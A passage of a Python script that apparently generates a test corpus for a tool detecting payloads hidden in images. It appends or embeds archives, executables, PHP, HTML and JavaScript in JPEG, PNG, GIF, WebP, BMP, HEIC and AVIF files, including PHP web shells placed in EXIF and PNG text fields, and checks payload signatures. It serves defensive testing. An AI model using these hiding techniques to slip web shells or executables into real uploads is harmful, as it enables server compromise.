    c("jpg_afcp.jpg", j + afcp(len(j), [(b"IPTC", IPTC), (b"TEXT", b"Stowaway corpus AFCP text\0")]), "jpg",
      "AFCP trailer, big-endian 'AXS!': IPTC + TEXT records, end record in the last 12 bytes")
    c("jpg_afcp_le.jpg", j + afcp(len(j), [(b"IPTC", IPTC)], big=False), "jpg",
      "AFCP trailer, little-endian 'AXS*': IPTC record")
    soft = struct.pack(">12i", 320, 240, 3, 72000, 0, 0, 0, 0, 100000, 100000, 0, 0)
    c("jpg_fotostation.jpg", j + fotostation([(1, IPTC), (2, soft)]), "jpg",
      "FotoStation trailer: IPTC and SoftEdit records, each with a tag/size/A1B2C3D4 footer (sig = last 4 bytes)")
    c("jpg_photomechanic.jpg", j + photomechanic([(209, 0), (210, 0), (211, 65536), (212, 65536), (216, 0),
                                                   (221, 1), (222, 0), (223, 3)]), "jpg",
      "Photo Mechanic trailer: soft-edit IPTC records padded to 2 KB, size + 'cbipcbbl'")
    c("jpg_samsung_sef.jpg", j + samsung_sef([(0x0A01, b"Image_UTC_Data", str(EPOCH * 1000).encode()),
                                              (0x0AA1, b"MCC_Data", b"310")]), "jpg",
      "Samsung SEF trailer without video: Image_UTC_Data + MCC_Data blocks, SEFH directory, 'SEFT'")

    # Ultra HDR: primary JPEG whose XMP and MPF declare a gain-map JPEG stored after its EOI.
    hdrgm = ' xmlns:hdrgm="http://ns.adobe.com/hdr-gain-map/1.0/" hdrgm:Version="1.0"'
    gain = save(photo(160, 120, 24).convert("L"), "JPEG", quality=85, xmp=xmp(
        attrs=hdrgm + ' hdrgm:GainMapMin="0" hdrgm:GainMapMax="2.3" hdrgm:Gamma="1" hdrgm:OffsetSDR="0.015625"'
        ' hdrgm:OffsetHDR="0.015625" hdrgm:HDRCapacityMin="0" hdrgm:HDRCapacityMax="2.3"'
        ' hdrgm:BaseRenditionIsHDR="False"', pad=0))
    attrs = (hdrgm + ' xmlns:Container="http://ns.google.com/photos/1.0/container/"'
             ' xmlns:Item="http://ns.google.com/photos/1.0/container/item/"')
    body = ('<Container:Directory><rdf:Seq><rdf:li rdf:parseType="Resource"><Container:Item Item:Semantic='
            '"Primary" Item:Mime="image/jpeg"/></rdf:li><rdf:li rdf:parseType="Resource"><Container:Item '
            f'Item:Semantic="GainMap" Item:Mime="image/jpeg" Item:Length="{len(gain)}"/></rdf:li></rdf:Seq>'
            '</Container:Directory>')
    blank = mpf_app2([0, 0], 0)
    prim = save(p, "JPEG", quality=85, extra=jpeg_segment(0xE2, b"\0" * len(blank)), xmp=xmp(body, attrs, pad=0))
    at = next(o + 4 for o, m, n in jpeg_segments(prim) if prim[o + 4:o + 4 + len(blank)] == b"\0" * len(blank))
    mpf = mpf_app2([len(prim), len(gain)], at + 4)
    uhdr = prim[:at] + mpf + prim[at + len(mpf):] + gain
    second = at + 4 + struct.unpack("<I", mpf[-8:-4])[0]  # entry 2's offset counts from the TIFF header
    with Image.open(io.BytesIO(uhdr[second:])) as im:  # (Pillow opens Ultra HDR as plain JPEG)
        assert second == len(prim) and im.size == (160, 120)
    c("ultrahdr_gainmap.jpg", uhdr, "jpg", f"Ultra HDR: hdrgm XMP + MPF index; gain-map JPEG at {len(prim)} after EOI")

    # libjpeg skips stray bytes before a marker ("extraneous bytes before marker") and decodes on.
    pj = C["jpg_prog"]
    sof = next(o for o, m, n in jpeg_segments(pj) if m == 0xC2)
    c("progressive_junk_before_sof.jpg", pj[:sof] + bytes([0x5A, 0x13, 0x77, 0x01, 0x3C]) + pj[sof:], "jpg",
      f"progressive; 5 stray non-FF bytes at {sof} between DQT and SOF2 (libjpeg resynchronises)")
    c("progressive_zeros_before_sof.jpg", pj[:sof] + b"\0" * 5 + pj[sof:], "jpg",
      f"progressive; 5 zero bytes at {sof} between DQT and SOF2 (libjpeg resynchronises)")

    thumb = tmpfile("thumb2.jpg", save(photo(64, 48, 25), "JPEG", quality=70))
    base = save(p, "JPEG", quality=85, exif=exif_bytes(), icc_profile=icc, xmp=xmp())
    c("exif_thumb_icc_xmp.jpg", tool(["exiftool", "-q"], lambda s, d: ["-o", d, f"-ThumbnailImage<={thumb}", s],
                                     base, "t2.jpg"), "jpg", "EXIF with IFD1 JPEG thumbnail (exiftool) + ICC + XMP")


# ----------------------------------------------------------------------------- suspicious
def build_suspicious(C, P):
    def sus(name, data, pic, ptype, begin, loc, note, declared=False, more=None):
        add("suspicious/" + name, data, pic, ptype, begin, loc, declared, note, more)

    def append(name, base, key, pad=b"", note=""):
        data, ptype, desc = P[key]
        pic = base[:-3] if base.endswith("1x1") else base
        sus(name, C[base] + pad + data, pic, ptype, len(C[base]) + len(pad), "after",
            (note or f"{desc} appended after {base}"))

    ext = {"jpg": "jpg", "png": "png", "gif": "gif", "webp": "webp", "bmp": "bmp", "tiff": "tif",
           "heic": "heic", "avif": "avif", "ico": "ico"}
    for base, e in ext.items():  # every container with TS and ZIP
        append(f"{base}_ts.{e}", base, "ts")
        append(f"{base}_zip.{e}", base, "zip")
    append("tencent_1x1_png_ts.png", "png1x1", "ts", note="Tencent case: 1x1 PNG + MPEG-TS")
    append("tencent_1x1_bmp_ts.bmp", "bmp1x1", "ts", note="1x1 BMP + MPEG-TS")
    append("jpg1x1_ts.jpg", "jpg1x1", "ts")
    rota = ["jpg", "png", "gif", "webp", "bmp", "tiff", "heic", "avif", "ico"]
    keys = ["m2ts", "ts204", "mp4", "mov", "fmp4", "flv", "mkv", "webm", "avi", "mp3", "mp3raw", "aac",
            "ogg", "flac", "wav", "rar4", "rar5", "7z", "gz", "bz2", "xz", "zst", "tar", "pdf", "elf",
            "pe", "macho", "php", "html", "js"]
    for i, key in enumerate(keys):
        base = rota[i % len(rota)]
        append(f"{base}_{key}.{ext[base]}", base, key)
    for i, (img, ptype) in enumerate(IMG_PAYLOAD.items()):  # another image appended
        base = rota[(i + 1) % len(rota)]
        P["img_" + img] = (C[img], ptype, f"a {ptype} image")
        append(f"{base}_plus_{img}.{ext[base]}", base, "img_" + img)
    rnd = random.Random(64)
    P["junk"] = (rnd.randbytes(65536), "Unknown", "64 KiB random bytes")
    append("jpg_random64k.jpg", "jpg", "junk")
    append("heic_mp4.heic", "heic", "mp4", note="MP4 after HEIC; HEIC ends at the furthest iloc extent (its mdat end)")

    # after zero padding / after a truncated image / followed by a fake trailer
    append("jpg_pad1000_zip.jpg", "jpg", "zip", pad=b"\0" * 1000, note="1000 zero bytes then ZIP")
    append("png_pad4096_ts.png", "png", "ts", pad=b"\0" * 4096, note="4096 zero bytes then TS")
    for base, key, e in (("jpg", "zip", "jpg"), ("png", "ts", "png")):
        cut = len(C[base]) // 2
        sus(f"truncated_{base}_{key}.{e}", C[base][:cut] + P[key][0], base, P[key][1], cut, "after",
            f"{base} cut at {cut} then {P[key][1]}")
    iend = png_chunk(b"IEND", b"")
    sus("png_ts_fake_iend.png", C["png"] + P["ts"][0] + iend, "png", "MPEG-TS", len(C["png"]), "after",
        "TS then a second IEND chunk at EOF")
    sus("jpg_zip_fake_eoi.jpg", C["jpg"] + P["zip"][0] + b"\xff\xd9", "jpg", "ZIP", len(C["jpg"]), "after",
        "ZIP then FF D9 at EOF")

    # inside the image structure
    data, off = png_insert(C["png"], [png_chunk(b"prVt", P["ts"][0])])
    sus("png_prvt_ts.png", data, "png", "MPEG-TS", off + 8, "inside", "TS in a private prVt chunk before IEND")
    ts = P["ts"][0]
    parts = [ts[i:i + 8192] for i in range(0, len(ts), 8192)]
    data, off = png_insert(C["png"], [png_chunk(b"tsDa", x) for x in parts], after_ihdr=True)
    sus("png_tsda_split.png", data, "png", "MPEG-TS", off + 8, "inside",
        f"TS split over {len(parts)} tsDa chunks after IHDR")
    p = photo(320, 240, 1)
    for name, marker, key, note in (("jpg_app15_zip.jpg", 0xEF, "zip", "ZIP in an APP15 segment"),
                                    ("jpg_app1_js.jpg", 0xE1, "js", "JavaScript in a non-EXIF APP1 segment")):
        data = save(p, "JPEG", quality=85, extra=jpeg_segment(marker, P[key][0]))
        sus(name, data, "jpg", P[key][1], find_once(data, P[key][0]), "inside", note)
    data = save(p, "JPEG", quality=85, comment=P["php"][0])
    sus("jpg_com_php.jpg", data, "jpg", "PHP", find_once(data, P["php"][0]), "inside", "PHP in a COM segment")
    gp = photo(160, 120, 2).quantize(64)
    data = save(gp, "GIF", comment=P["php"][0])
    sus("gif_comment_php.gif", data, "gif", "PHP", find_once(data, P["php"][0]), "inside",
        "PHP in a GIF comment extension")
    g = C["gif"]
    pos = gif_header_end(g)
    ext_blk = b"\x21\xff\x0bSECRETZP1.0" + gif_subblocks(P["zip"][0])
    sus("gif_appext_zip.gif", g[:pos] + ext_blk + g[pos:], "gif", "ZIP", pos + 15, "inside",
        "ZIP in sub-blocks of an application extension 'SECRETZP1.0' (length bytes interleaved)")
    data, off = riff_add_chunk(C["webpx"], b"STWY", P["mp4"][0])
    sus("webp_chunk_mp4.webp", data, "webp", "MP4", off, "inside", "MP4 in an unknown RIFF chunk 'STWY'")
    bmp = C["bmp"]
    boff = struct.unpack("<I", bmp[10:14])[0]
    zipb = P["zip"][0]
    gap = zipb + b"\0" * (-len(zipb) % 4)
    data = bytearray(bmp[:boff] + gap + bmp[boff:])
    struct.pack_into("<I", data, 2, len(data))
    struct.pack_into("<I", data, 10, boff + len(gap))
    sus("bmp_gap_zip.bmp", bytes(data), "bmp", "ZIP", boff, "inside",
        "ZIP in a gap between headers and pixel array (bfOffBits moved)")
    h = C["heic"]
    sus("heic_mdat_ts.heic", h + box(b"mdat", ts), "heic", "MPEG-TS", len(h) + 8, "inside",
        "TS in a second top-level mdat not referenced by iloc")
    sus("heic_uuid_zip.heic", h + box(b"uuid", b"\x5e\x11" * 8 + zipb), "heic", "ZIP", len(h) + 24,
        "inside", "ZIP in an extra top-level uuid box (after the 16-byte usertype)")
    a = C["avif"]
    sus("avif_free_ts.avif", a + box(b"free", ts), "avif", "MPEG-TS", len(a) + 8, "inside",
        "TS in an extra top-level free box")
    sus("avif_xtra_mp4.avif", a + box(b"xtra", P["mp4"][0]), "avif", "MP4", len(a) + 8, "inside",
        "MP4 in an extra unknown top-level box 'xtra'")

    # whole file
    sus("whole_ts_as.png", ts, "unknown", "MPEG-TS", 0, "whole", "MPEG-TS renamed .png")
    sus("whole_zip_as.jpg", zipb, "unknown", "ZIP", 0, "whole", "ZIP renamed .jpg")
    sus("whole_mp4_as.gif", P["mp4"][0], "unknown", "MP4", 0, "whole", "MP4 renamed .gif")
    sus("png_sig_then_ts.png", b"\x89PNG\r\n\x1a\n" + ts, "png", "MPEG-TS", 8, "whole",
        "PNG signature then TS, no chunks")

    # several payloads (primary = lowest offset)
    j = C["png"]
    sus("png_zip_ts.png", j + zipb + ts, "png", "ZIP", len(j), "after", "ZIP then TS appended",
        more=[(len(j), "ZIP"), (len(j) + len(zipb), "MPEG-TS")])
    data = save(p, "JPEG", quality=85, comment=P["php"][0])
    php_at = find_once(data, P["php"][0])
    sus("jpg_com_php_plus_mp4.jpg", data + P["mp4"][0], "jpg", "PHP", php_at, "inside",
        "PHP in COM (primary) and MP4 appended", more=[(php_at, "PHP"), (len(data), "MP4")])
    g = C["gif"]
    r, s = P["rar5"][0], P["7z"][0]
    sus("gif_rar_7z_elf.gif", g + r + s + P["elf"][0], "gif", "RAR", len(g), "after",
        "RAR5, 7z and ELF appended", more=[(len(g), "RAR"), (len(g) + len(r), "7Z"),
                                            (len(g) + len(r) + len(s), "ELF")])

    # declared motion photos
    mp4 = P["mp4"][0]
    attrs = (' xmlns:GCamera="http://ns.google.com/photos/1.0/camera/"'
             ' xmlns:Container="http://ns.google.com/photos/1.0/container/"'
             ' xmlns:Item="http://ns.google.com/photos/1.0/container/item/"'
             f' GCamera:MotionPhoto="1" GCamera:MotionPhotoVersion="1"'
             f' GCamera:MotionPhotoPresentationTimestampUs="0" GCamera:MicroVideo="1"'
             f' GCamera:MicroVideoVersion="1" GCamera:MicroVideoOffset="{len(mp4)}"'
             f' GCamera:MicroVideoPresentationTimestampUs="0"')
    body = ('<Container:Directory><rdf:Seq>'
            '<rdf:li rdf:parseType="Resource"><Container:Item Item:Mime="image/jpeg" '
            'Item:Semantic="Primary" Item:Length="0" Item:Padding="0"/></rdf:li>'
            '<rdf:li rdf:parseType="Resource"><Container:Item Item:Mime="video/mp4" '
            f'Item:Semantic="MotionPhoto" Item:Length="{len(mp4)}" Item:Padding="0"/></rdf:li>'
            '</rdf:Seq></Container:Directory>')
    jm = save(p, "JPEG", quality=85, exif=exif_bytes(), xmp=xmp(body, attrs))
    sus("motion_google.jpg", jm + mp4, "jpg", "MP4", len(jm), "after",
        "Google motion photo: XMP GCamera:MotionPhoto/MicroVideoOffset + Container:Directory", declared=True)
    name = b"MotionPhoto_Data"
    blk = b"\0\0\x30\x0a" + struct.pack("<I", len(name)) + name + mp4
    sefh = b"SEFH" + struct.pack("<II", 101, 1) + b"\0\0\x30\x0a" + struct.pack("<II", len(blk), len(blk))
    js = C["jpg"]
    sus("motion_samsung.jpg", js + blk + sefh + struct.pack("<I", len(sefh)) + b"SEFT", "jpg", "MP4",
        len(js) + 24, "after", "Samsung motion photo: SEF block 'MotionPhoto_Data' (8+16 bytes of "
        f"framing at {len(js)}) + MP4 + SEFH/SEFT trailer", declared=True)

    # web shells in metadata
    php = P["php"][0].rstrip(b"\n")
    ex = Image.Exif()
    ex[0x010F], ex[0x0110], ex[0x010E] = "Stowaway", "Corpus Cam", php.decode()
    data = save(p, "JPEG", quality=85, exif=ex.tobytes())
    sus("jpg_exif_desc_php.jpg", data, "jpg", "PHP", find_once(data, php), "inside",
        "PHP web shell as the EXIF ImageDescription (IFD0 0x010E)")
    ex = Image.Exif()
    ex[0x010F], ex[0x0110] = "Stowaway", "Corpus Cam"
    ex.get_ifd(0x8769)[0x9286] = b"ASCII\0\0\0" + php
    data = save(p, "JPEG", quality=85, exif=ex.tobytes())
    sus("jpg_exif_usercomment_php.jpg", data, "jpg", "PHP", find_once(data, php), "inside",
        "PHP web shell as the EXIF UserComment (Exif IFD 0x9286, 'ASCII' charset prefix)")
    info = PngImagePlugin.PngInfo()
    info.add_text("Software", "Stowaway")
    info.add_text("Comment", php.decode())
    data = save(photo(160, 120, 2), "PNG", pnginfo=info)
    sus("png_text_php.png", data, "png", "PHP", find_once(data, php), "inside",
        "PHP web shell as a tEXt 'Comment' value")

    # more carriers
    zipb, junk = P["zip"][0], P["junk"][0]
    for name, base, pic, key, note in (
            ("jpg_progressive_zip.jpg", "jpg_prog", "jpg", "zip", "ZIP after a progressive JPEG"),
            ("bigtiff_ts.tif", "bigtiff", "tiff", "ts", "TS after a Pillow BigTIFF"),
            ("cur_zip.cur", "cur", "ico", "zip", "ZIP after a CUR cursor"),
            ("bmp_png_ts.bmp", "bmp_png", "bmp", "ts", "TS after a BI_PNG BMP (bfSize ends at the PNG's end)"),
            ("gif_random64k.gif", "gif", "gif", "junk", "64 KiB random bytes after a GIF")):
        sus(name, C[base] + P[key][0], pic, P[key][1], len(C[base]), "after", note)
    w = C["webp"]
    sus("webp_random200.webp", w + random.Random(200).randbytes(200), "webp", "Unknown", len(w), "after",
        "200 random bytes after the RIFF chunk")
    j = C["jpg"]
    data = j + ts + afcp(len(j) + len(ts), [(b"IPTC", IPTC)])
    sus("jpg_ts_afcp.jpg", data, "jpg", "MPEG-TS", len(j), "after",
        "TS after EOI, then a valid AFCP trailer (IPTC) whose start offset points past the TS")


# ----------------------------------------------------------------------------- clean but tricky
def build_tricky(C):
    def t(name, data, pic, note):
        add("tricky/" + name, data, pic, note=note)
    j, p = C["jpg"], photo(320, 240, 1)
    t("jpg_zero_pad.jpg", j + b"\0" * 4096, "jpg", "4096 zero bytes after EOI")
    t("jpg_crlf.jpg", j + b"\r\n", "jpg", "CR LF after EOI")
    t("jpg_nul_lf.jpg", j + b"\x00\x0a", "jpg", "00 0A after EOI")
    t("jpg_slack16.jpg", j + b"\xff" * 16, "jpg", "16 bytes of FF after EOI")
    mpo = save(p, "MPO", save_all=True, append_images=[photo(320, 240, 9)], quality=85)
    t("mpo_two_frames.jpg", mpo, "jpg", "MPO: MPF APP2 + second JPEG after the first EOI")
    t("truncated.jpg", j[:len(j) // 2], "jpg", "JPEG cut in half, nothing after")
    t("truncated.png", C["png"][:len(C["png"]) // 2], "png", "PNG cut in half, nothing after")
    info = PngImagePlugin.PngInfo()
    info.add_text("Software", "Stowaway")
    t("png_1x1_text.png", save(Image.new("L", (1, 1)), "PNG", pnginfo=info), "png", "1x1 with a tEXt chunk")
    slack = bytes(b % 255 + 1 for b in random.Random(20).randbytes(20))
    t("png_slack20.png", C["png"] + slack, "png", "20 random non-zero bytes after IEND (below the 32-byte threshold)")


# ----------------------------------------------------------------------------- verify
def starts_as(t, d, b):
    s = d[b:b + 16]
    checks = {
        "MPEG-TS": lambda: any(d[b + o] == 0x47 and d[b + o + n] == 0x47 for o, n in ((0, 188), (4, 192), (0, 204))),
        "MP4": lambda: s[4:8] in (b"ftyp", b"moov", b"mdat", b"free", b"wide"),
        "FLV": lambda: s[:3] == b"FLV", "MKV": lambda: s[:4] == b"\x1aE\xdf\xa3",
        "WebM": lambda: s[:4] == b"\x1aE\xdf\xa3", "AVI": lambda: s[:4] == b"RIFF" and s[8:12] == b"AVI ",
        "MP3": lambda: s[:3] == b"ID3" or (s[0] == 0xFF and s[1] & 0xE0 == 0xE0),
        "AAC": lambda: s[0] == 0xFF and s[1] & 0xF6 == 0xF0, "OGG": lambda: s[:4] == b"OggS",
        "FLAC": lambda: s[:4] == b"fLaC", "WAV": lambda: s[:4] == b"RIFF" and s[8:12] == b"WAVE",
        "ZIP": lambda: s[:4] == b"PK\3\4", "RAR": lambda: s[:6] == b"Rar!\x1a\x07",
        "7Z": lambda: s[:6] == b"7z\xbc\xaf\x27\x1c", "GZIP": lambda: s[:2] == b"\x1f\x8b",
        "BZIP2": lambda: s[:3] == b"BZh", "XZ": lambda: s[:6] == b"\xfd7zXZ\0",
        "ZSTD": lambda: s[:4] == b"\x28\xb5\x2f\xfd", "TAR": lambda: d[b + 257:b + 262] == b"ustar",
        "PDF": lambda: s[:5] == b"%PDF-", "ELF": lambda: s[:4] == b"\x7fELF", "PE": lambda: s[:2] == b"MZ",
        "Mach-O": lambda: s[:4] in (b"\xcf\xfa\xed\xfe", b"\xce\xfa\xed\xfe", b"\xfe\xed\xfa\xce")
        or (s[:4] == b"\xca\xfe\xba\xbe" and struct.unpack(">I", s[4:8])[0] < 45),
        "PHP": lambda: s[:5] == b"<?php" or s[:3] == b"<?=",
        "HTML": lambda: s.lower().startswith((b"<html", b"<!doctype", b"<iframe", b"<script", b"<svg on")),
        "JavaScript": lambda: s.startswith((b"(function", b"var ", b"function ", b";alert", b"*/")),
        "Unknown": lambda: True,
        "CAB": lambda: s[:4] == b"MSCF", "ARJ": lambda: s[:2] == b"\x60\xea",
        "JavaClass": lambda: s[:4] == b"\xca\xfe\xba\xbe" and 45 <= struct.unpack(">H", s[6:8])[0] < 100,
        "WASM": lambda: s[:8] == b"\0asm\1\0\0\0",
        "SVG": lambda: s.startswith(b"<svg xmlns") or (s[:5] == b"<?xml" and b"<svg" in d[b:b + 300]),
        "PostScript": lambda: s[:4] == b"%!PS", "RTF": lambda: s[:5] == b"{\\rtf",
        "LZ4": lambda: s[:4] == b"\x04\x22\x4d\x18", "ISO": lambda: d[b + 0x8001:b + 0x8006] == b"CD001",
        "LNK": lambda: s[:8] == b"\x4c\0\0\0\x01\x14\x02\0",
        "CPIO": lambda: s[:6] in (b"070701", b"070702", b"070707"), "AR": lambda: s[:8] == b"!<arch>\n",
        "DICOM": lambda: d[b + 128:b + 132] == b"DICM",
        "PCAP": lambda: s[:4] in (b"\xd4\xc3\xb2\xa1", b"\xa1\xb2\xc3\xd4", b"\x0a\x0d\x0d\x0a"),
        "SWF": lambda: s[:3] in (b"FWS", b"CWS", b"ZWS"), "OLE": lambda: s[:8] == bytes.fromhex("d0cf11e0a1b11ae1"),
        "SQLite": lambda: s == b"SQLite format 3\0", "DEX": lambda: s[:4] == b"dex\n" and s[7] == 0,
    }
    img = {v: k for k, v in IMG_PAYLOAD.items()}
    if t in img:
        return sniff(d[b:]) == img[t]
    return checks[t]()


def verify():
    seen, counts = set(), {}
    for e in ENTRIES:
        d = (OUT / e["file"]).read_bytes()
        key = e["type"] if e["suspicious"] else "clean"
        counts[key] = counts.get(key, 0) + 1
        if e["pic_type"] != "unknown":
            assert sniff(d) == e["pic_type"] or e.get("location") == "whole", e["file"]
        if e["suspicious"]:
            assert e["type"] in PAYLOAD_TYPES and e["location"] in ("after", "inside", "whole"), e
            pl = e.get("payloads", [{"begin": e["begin"], "type": e["type"]}])
            assert (pl[0]["begin"], pl[0]["type"]) == (e["begin"], e["type"]), e["file"]
            for i, p in enumerate(pl):
                lead = LEAD.get(e["file"], 0) if i == 0 else 0
                assert lead < (204 if p["type"] == "MPEG-TS" else 64), (e["file"], lead)
                assert starts_as(p["type"], d, p["begin"] + lead), (e["file"], p)
                seen.add(p["type"])
    missing = set(PAYLOAD_TYPES) - seen
    assert not missing, f"payload types never generated: {missing}"
    return counts


def main():
    global OUT, TMP
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    OUT = Path(sys.argv[1]).resolve()
    need = missing(CACHE) + [f for f in ("macho/_speedups.so", "pe/t64.exe") if not (CACHE / f).exists()]
    if need:
        sys.exit(f"run tests/corpus/install-deps.sh first (cache missing: {', '.join(need)})")
    if OUT.exists() and any(OUT.iterdir()):
        if not (OUT / "manifest.json").is_file():
            sys.exit(f"{OUT} is not empty and holds no manifest.json: refusing to replace it")
        shutil.rmtree(OUT)  # a previous corpus
    OUT.mkdir(parents=True)
    t0 = time.time()
    with tempfile.TemporaryDirectory(prefix="stowaway-corpus-") as tmp:
        TMP = Path(tmp)
        P = make_payloads()
        C = build_clean()
        build_clean_more(C)
        build_suspicious(C, P)
        build_tricky(C)
        from hidden import build_hidden  # noqa: E402 (needs this module fully defined)
        build_hidden(C, P)
    skipped = build_realworld(add, CACHE)
    (OUT / "manifest.json").write_text(json.dumps(ENTRIES, indent=1) + "\n")
    counts = verify()
    cats = {}
    for e in ENTRIES:
        cats[e["file"].split("/")[0]] = cats.get(e["file"].split("/")[0], 0) + 1
    print(f"{len(ENTRIES)} files in {time.time() - t0:.1f}s: " + ", ".join(f"{k} {v}" for k, v in cats.items()))
    print("by type: " + ", ".join(f"{k} {v}" for k, v in sorted(counts.items())))
    classes = {}
    for e in ENTRIES:
        if "class" in e:
            k = f'{e["file"].split("/")[0]}/{e["class"]}'
            classes[k] = classes.get(k, 0) + 1
    print("by class: " + ", ".join(f"{k} {v}" for k, v in sorted(classes.items())))
    if skipped:
        print(f"skipped {len(skipped)} real-world images with trailing data: {', '.join(skipped)}")


if __name__ == "__main__":
    main()
